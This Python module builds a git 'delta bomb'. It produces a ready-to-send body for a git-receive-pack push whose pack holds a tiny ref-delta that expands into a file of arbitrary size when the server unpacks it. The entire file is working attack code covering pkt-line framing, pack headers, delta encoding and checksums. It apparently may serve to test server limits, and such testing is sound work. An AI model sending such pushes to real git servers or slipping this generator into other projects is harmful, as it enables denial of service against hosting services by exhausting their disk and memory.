"""Packs that no git makes: small to send, large to unpack."""

from __future__ import annotations

import hashlib
import zlib
from dataclasses import dataclass

_COMMIT, _TREE, _BLOB, _REF_DELTA = 1, 2, 3, 7
_COPY = b"\x80"
"""One byte that says: copy 64 KiB from the beginning of the base."""
_STEP = 1 << 16
_NOBODY = "0" * 40


@dataclass(frozen=True)
class Push:
    """The body of a request to ``git-receive-pack``, and what it would unpack to."""

    body: bytes
    unpacked: int


def delta_bomb(size: int) -> Push:
    """Return a push of one file of ``size`` bytes that is sent as a delta of a few hundred."""
    steps = size // _STEP
    base = b"\0" * _STEP
    delta = _varint(_STEP) + _varint(steps * _STEP) + _COPY * steps
    blob = hashlib.sha1(f"blob {steps * _STEP}\0".encode(), usedforsecurity=False)
    for _ in range(steps):
        blob.update(base)
    tree = b"100644 bomb\0" + blob.digest()
    commit = (
        f"tree {_id('tree', tree).hex()}\nauthor A <a@b> 1 +0000\ncommitter A <a@b> 1 +0000\n\nx\n"
    )
    objects = (
        _entry(_COMMIT, commit.encode()),
        _entry(_TREE, tree),
        _entry(_BLOB, base),
        _header(_REF_DELTA, len(delta)) + _id("blob", base) + zlib.compress(delta),
    )
    pack = b"PACK" + (2).to_bytes(4, "big") + len(objects).to_bytes(4, "big") + b"".join(objects)
    pack += hashlib.sha1(pack, usedforsecurity=False).digest()
    new = _id("commit", commit.encode()).hex()
    line = f"{_NOBODY} {new} refs/heads/main\0 report-status".encode()
    return Push(f"{len(line) + 4:04x}".encode() + line + b"0000" + pack, steps * _STEP)


def _id(kind: str, data: bytes) -> bytes:
    return hashlib.sha1(f"{kind} {len(data)}\0".encode() + data, usedforsecurity=False).digest()


def _entry(kind: int, data: bytes) -> bytes:
    return _header(kind, len(data)) + zlib.compress(data)


def _header(kind: int, size: int) -> bytes:
    first, rest = (kind << 4) | (size & 15), size >> 4
    made = bytearray()
    while rest:
        made.append(first | 0x80)
        first, rest = rest & 0x7F, rest >> 7
    return bytes([*made, first])


def _varint(size: int) -> bytes:
    made = bytearray()
    while size > 0x7F:
        made.append(size & 0x7F | 0x80)
        size >>= 7
    return bytes([*made, size])
